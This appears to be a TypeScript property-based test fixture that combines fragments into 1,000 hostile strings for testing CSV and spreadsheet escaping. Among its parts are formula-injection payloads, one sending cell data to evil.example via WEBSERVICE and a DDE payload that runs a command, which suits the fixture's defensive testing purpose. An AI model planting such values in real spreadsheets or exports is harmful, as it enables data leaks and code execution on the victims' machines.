import { fc } from '@fast-check/vitest';

/** What a spreadsheet, a terminal or a reader of CSV could be made to misread. */
const PARTS = [
  '=WEBSERVICE("http://evil.example/"&A1)',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\uFF1D1+1',
  '=',
  '"',
  '""',
  ',',
  ';',
  '\t',
  '\n',
  '\r\n',
  '\r',
  '\u2028',
  '\u0085',
  ' ',
  "'",
  'vLLM',
  'H100 SXM5',
];

/** Names made of such parts in any order, 1,000 of one seed. */
export const HOSTILE_NAMES: readonly string[] = fc.sample(
  fc.array(fc.constantFrom(...PARTS), { minLength: 1, maxLength: 6 }).map((parts) => parts.join('')),
  { numRuns: 1_000, seed: 20261122 },
);
